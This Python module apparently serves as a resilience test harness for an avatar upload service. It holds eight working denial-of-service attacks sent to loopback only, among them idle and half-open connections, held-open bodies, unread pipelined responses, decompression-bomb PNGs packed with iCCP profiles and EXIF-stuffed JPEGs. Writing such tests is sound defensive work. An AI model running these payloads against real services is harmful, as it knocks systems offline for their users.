"""What attackers send, byte by byte: each attack that was once found to work.

Every one is bounded, goes to loopback only, and ends by itself. What the servers answer is read and
thrown away, or not read at all where that is the attack.
"""

import contextlib
import io
import secrets
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Final

from PIL import Image

from load import BOUNDARY

MB: Final = 2**20
CALLS_A_MINUTE: Final = 20
"""How many uploads the service allows somebody in a minute, all of them at once if they like."""

_TIMEOUT_S: Final = 60.0
_PIECE: Final = 256 * 1024
_HOST: Final = b"Host: 127.0.0.1\r\n"


@dataclass(frozen=True, slots=True)
class Victim:
    """Where attacks go: a port, a hot path, and the token of somebody who turned bad."""

    port: int
    path: str
    token: str


Attack = Callable[[Victim, float], int]
"""Goes on until a moment of the monotonic clock; gives how much it sent, to be told."""


def percent_signs(victim: Victim, end_s: float) -> int:
    """Forms of 29 MiB in which every byte is written as three, without a token."""
    body = b"image=" + b"%41" * (29 * MB // 3)
    kind = "application/x-www-form-urlencoded"
    return _repeat(end_s, lambda: _send(victim, _post("users.setPhoto", kind, len(body)), body))


def silence(victim: Victim, end_s: float) -> int:
    """Eleven hundred connections on which nothing is said."""
    with contextlib.ExitStack() as held:
        for _ in range(1100):
            held.enter_context(_connected(victim))
        time.sleep(max(0.0, end_s - time.monotonic()))
    return 1100


def half_said(victim: Victim, end_s: float) -> int:
    """Connections with half a head or another protocol's greeting, as fast as can be."""
    beginnings = (b"GET / HTTP/1.1\r\n" + _HOST, b"PRI * HTTP/2.0\r\n\r\n", b"\x16\x03\x01\x02")
    with contextlib.ExitStack() as held:
        count = 0
        while time.monotonic() < end_s and count < 10_000:
            line = held.enter_context(_connected(victim))
            line.sendall(beginnings[count % len(beginnings)])
            count += 1
    return count


def unread_answers(victim: Victim, end_s: float) -> int:
    """A hundred connections that ask for a photo five hundred times each, and read no answer."""
    asked = f"GET {victim.path} HTTP/1.1\r\n".encode() + _HOST + b"\r\n"
    with contextlib.ExitStack() as held:
        for _ in range(100):
            line = held.enter_context(_connected(victim))
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.sendall(asked * 500)
        time.sleep(max(0.0, end_s - time.monotonic()))
    return 50_000


def drawings(victim: Victim, end_s: float) -> int:
    """Sixty-four at a time: pictures of strangers, each another one, in the costliest form."""
    kinds = (".webp?d=color&s=2048", ".gif?d=robohash&s=2048", ".webp?d=robohash&s=2047")

    def draw(number: int) -> int:
        def ask() -> None:
            path = f"/avatar/{secrets.token_hex(32)}{kinds[number % len(kinds)]}"
            _send(victim, f"GET {path} HTTP/1.1\r\n".encode() + _HOST + b"\r\n", b"")

        return _repeat(end_s, ask)

    with ThreadPoolExecutor(64) as pool:
        return sum(pool.map(draw, range(64)))


def held_bodies(victim: Victim, end_s: float) -> int:
    """Eight connections with 32 MiB each but for the last byte, again and again, tokenless."""
    kind, length = f"multipart/form-data; boundary={BOUNDARY}", 32 * MB

    def hold(_: int) -> int:
        def upload() -> None:
            head = _post("users.preparePhoto", kind, length)
            with contextlib.suppress(OSError), _connected(victim) as line:
                _send_on(line, head, bytes(length - 1))
                line.settimeout(max(0.1, end_s - time.monotonic()))
                _read(line)

        return _repeat(end_s, upload)

    with ThreadPoolExecutor(8) as pool:
        return sum(pool.map(hold, range(8)))


def swollen_heads(victim: Victim, end_s: float) -> int:
    """Pictures with thousands of profiles or notes, as many as somebody may upload in a minute."""
    pictures = (_png_of_profiles(9_000), _jpeg_of_notes(20_000))

    def upload(number: int) -> int:
        body = _form(pictures[number % 2])
        kind = f"multipart/form-data; boundary={BOUNDARY}"
        head = _post("users.setPhoto", kind, len(body), victim.token)
        if time.monotonic() < end_s:
            _send(victim, head, body)
        return 1

    with ThreadPoolExecutor(8) as pool:
        return sum(pool.map(upload, range(CALLS_A_MINUTE)))


def long_questions(victim: Victim, end_s: float) -> int:
    """Hashes with queries of 60 000 bytes, then of 4 000, each another one."""

    def ask_on(number: int) -> int:
        length = 60_000 if number % 2 else 4_000

        def ask() -> None:
            path = f"/avatar/{secrets.token_hex(32)}?d=404&x={secrets.token_hex(length // 2)}"
            _send(victim, f"GET {path} HTTP/1.1\r\n".encode() + _HOST + b"\r\n", b"")

        return _repeat(end_s, ask)

    with ThreadPoolExecutor(4) as pool:
        return sum(pool.map(ask_on, range(4)))


ATTACKS: Final[Mapping[str, Attack]] = {
    "forms of percent signs": percent_signs,
    "silent connections": silence,
    "half a head": half_said,
    "answers that nobody reads": unread_answers,
    "pictures of strangers": drawings,
    "bodies that do not end": held_bodies,
    "swollen heads of pictures": swollen_heads,
    "long questions": long_questions,
}


def attack(name: str, victim: Victim, seconds: float) -> int:
    """Do one of them for a while; how much was sent."""
    return ATTACKS[name](victim, time.monotonic() + seconds)


def _repeat(end_s: float, act: Callable[[], object]) -> int:
    count = 0
    while time.monotonic() < end_s:
        act()
        count += 1
    return count


@contextlib.contextmanager
def _connected(victim: Victim) -> Iterator[socket.socket]:
    line = socket.socket()
    line.settimeout(_TIMEOUT_S)
    try:
        line.connect(("127.0.0.1", victim.port))
        yield line
    finally:
        line.close()


def _send(victim: Victim, head: bytes, body: bytes) -> None:
    """One request on a connection of its own; the server may end it at any time."""
    with contextlib.suppress(OSError), _connected(victim) as line:
        _send_on(line, head, body)
        _read(line)


def _send_on(line: socket.socket, head: bytes, body: bytes) -> None:
    line.sendall(head)
    view = memoryview(body)
    for at in range(0, len(body), _PIECE):
        line.sendall(view[at : at + _PIECE])


def _read(line: socket.socket) -> None:
    """The beginning of an answer, which is enough to know that there is one."""
    line.recv(_PIECE)


def _post(method: str, kind: str, length: int, token: str = "") -> bytes:
    lines = [
        f"POST /api/{method} HTTP/1.1",
        "Host: 127.0.0.1",
        f"Content-Type: {kind}",
        f"Content-Length: {length}",
        *([f"Authorization: Bearer {token}"] if token else []),
    ]
    return "\r\n".join([*lines, "", ""]).encode()


def _form(picture: bytes) -> bytes:
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
    return head.encode() + picture + f"\r\n--{BOUNDARY}--\r\n".encode()


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", crc)


def _png_of_profiles(number: int) -> bytes:
    """512 pixels of black, and profiles that are a megabyte each once they are unpacked."""
    profile = _chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(MB), 9))
    header = struct.pack(">LLBBBBB", 512, 512, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(512 * 513))
    start = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header)
    return start + profile * number + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _jpeg_of_notes(number: int) -> bytes:
    """512 pixels of black, and segments of EXIF that say nothing."""
    note = b"Exif\0\0MM\0*" + struct.pack(">LH", 8, 512)
    segment = b"\xff\xe1" + struct.pack(">H", len(note) + 2) + note
    file = io.BytesIO()
    Image.new("RGB", (512, 512)).save(file, "JPEG")
    picture = file.getvalue()
    return picture[:2] + segment * number + picture[2:]
